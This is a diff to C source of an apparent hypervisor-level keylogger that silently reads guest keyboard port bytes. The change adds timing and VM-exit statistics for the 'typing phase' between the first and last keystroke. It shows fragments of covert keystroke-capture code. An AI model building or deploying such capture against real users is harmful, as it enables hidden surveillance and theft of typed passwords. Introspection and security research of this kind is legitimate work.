@@ -34,6 +34,7 @@ static uint64_t last_key_tsc, window_open_tsc, window_seq;
 static uint64_t io_in, io_out, io_other, io_ticks;
 static uint64_t windows, window_tsc, place_fail, arm_ticks, disarm_ticks;
 static uint64_t hits, hit_ticks, read_fail;
+static uint64_t first_key_tsc, first_key_exits, last_key_exits, last_key_hits;   /* typing phase */
 
 static int site_read(void *ctx, uint64_t va, void *buf, uint32_t len)
 {
@@ -95,6 +96,12 @@ static void kl_io(struct vcpu *v, uint16_t port, unsigned int size, bool in, uin
 		uint8_t b = inb(KL_I8042_DATA);
 		*val = b;                          /* the guest gets the byte unchanged */
 		if (kl_feed_byte(&ks, st, b, t0, NULL)) {
+			if (!first_key_tsc) {
+				first_key_tsc = t0;
+				first_key_exits = v->nr_exits;
+			}
+			last_key_exits = v->nr_exits;
+			last_key_hits = hits;
 			last_key_tsc = t0;
 			arm(t0);
 		}
@@ -259,6 +266,13 @@ void keylogger_print_stats(void)
 		  (unsigned long)read_fail, (unsigned long)ks.consumed, (unsigned long)ks.unmatched,
 		  (unsigned long)ks.reports, (unsigned long)ks.proc_evictions, (unsigned long)place_fail,
 		  (unsigned long)ks.hist_overwritten);
+	if (first_key_tsc && last_key_tsc > first_key_tsc) {
+		uint64_t ms = tick_tsc_to_ms(last_key_tsc - first_key_tsc);
+		uint64_t ex = last_key_exits - first_key_exits;
+		hv_printf("hvmon: keylogger: typing phase (first to last keystroke): %lu ms of guest time, %lu exits "
+			  "of vCPU 0 (%lu/s), %lu exit-site hits until the last keystroke\n", (unsigned long)ms, (unsigned long)ex,
+			  (unsigned long)(ms ? ex * 1000 / ms : 0), (unsigned long)last_key_hits);
+	}
 	for (unsigned i = 0; i < KL_MAX_PROCS; i++) {
 		const struct kl_proc *p = &ks.procs[i];
 		if (!p->used)
